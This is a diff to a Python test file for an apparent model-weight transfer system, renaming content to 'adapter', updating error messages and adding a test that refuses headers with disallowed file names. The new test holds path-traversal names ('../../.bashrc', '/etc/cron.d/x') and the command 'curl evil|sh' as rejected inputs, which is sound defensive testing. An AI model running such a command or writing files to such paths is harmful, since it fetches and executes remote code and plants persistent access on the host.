@@ -35,7 +35,7 @@ def some_weights(seed: int = 0) -> Weights:
         "d.bias": torch.randn(3, generator=rng),
         "e.empty": torch.zeros(0, 4),
     }
-    return Weights("full", tensors, {"config.json": "{}"})
+    return Weights("adapter", tensors, {"adapter_config.json": "{}"})
 
 
 @pytest.fixture
@@ -114,7 +114,7 @@ def test_a_bucket_in_the_place_of_another_is_refused():
             verify(parcel.key, (number + 1) % 3, parcel.bytes_of[number], parcel.codes[number])
 
 
-@pytest.mark.slow
+@pytest.mark.long
 def test_a_bucket_of_more_than_2_gib_can_be_checked():
     """The embedding of 150 000 tokens by 8 192, in bfloat16; of zeros, which take no memory."""
     with pytest.raises(ValueError, match="bucket 0 arrived with other bytes"):
@@ -166,8 +166,22 @@ def test_a_header_that_is_not_the_manifests_is_refused():
         b'{"content": "full", "files": ' + b"[" * 900 + b"]" * 900 + b', "buckets": []}',
         b"[" * 100_000,
     ):
-        with pytest.raises(ValueError, match="header of the weights is none"):
+        with pytest.raises(ValueError, match="header of the weights can't be read"):
             Header.decode(nonsense, header.digest)
+
+
+@pytest.mark.parametrize("content", ["adapter", "full"])
+@pytest.mark.parametrize("name", ["../../.bashrc", "/etc/cron.d/x", "weights.py", "adapter_model.safetensors"])
+def test_a_header_with_files_of_other_names_than_the_adapters_own_is_refused(name, content):
+    """Whoever may be the trainer names files, and engines write them: no name leads out of their folder."""
+    header = Header(content, {name: "curl evil|sh"}, ())
+    with pytest.raises(ValueError, match=r"allowed are: (adapter_config\.json|none)"):
+        Header.decode(header.encode(), header.digest)
+    good = Header("adapter", {"adapter_config.json": "{}"}, ())
+    assert Header.decode(good.encode(), good.digest) == good
+    no_text = Header("adapter", {"adapter_config.json": {"r": 4}}, ())
+    with pytest.raises(ValueError, match="are no texts by name"):
+        Header.decode(no_text.encode(), no_text.digest)
 
 
 @pytest.mark.parametrize("host", [HOST, "localhost", "::1", "[::1]"])
@@ -182,7 +196,7 @@ def test_all_members_get_every_tensor(host: str):
     for thread, results in running:
         thread.join(30.0)
         assert results[0].files == weights.files
-        assert results[0].content == "full"
+        assert results[0].content == "adapter"
         for name, tensor in weights.tensors.items():
             assert torch.equal(results[0].tensors[name], tensor)
 
@@ -240,7 +254,7 @@ def test_an_old_version_is_held_until_nobody_may_ask_for_it(publisher: Rendezvou
     assert [manifest.policy.version for manifest in publisher.published()] == [3, 4, 5]
     gone = Manifest(policy=Policy(lineage=1, version=1), channel="rendezvous", content="full", uri=publisher.address,
                     digest="", num_bytes=0)  # fmt: skip
-    with pytest.raises(UpdateAbandonedError, match=r"holds 1\.1 no more"):
+    with pytest.raises(UpdateAbandonedError, match=r"no longer holds 1\.1"):
         RendezvousReceiver("A", HOST, 30.0).receive(gone, update_of("A"), never)
 
 
@@ -498,7 +512,7 @@ def test_an_update_is_given_up_when_nothing_comes_any_more(num_sent: int):
         assert isinstance(results[0], Weights)
     else:
         assert isinstance(results[0], UpdateAbandonedError)
-        assert "a bucket was not through within weights.timeout 2 s" in str(results[0])
+        assert "a bucket was not transferred within weights.timeout 2 s" in str(results[0])
 
 
 def test_the_first_bucket_has_its_time_from_the_meeting():
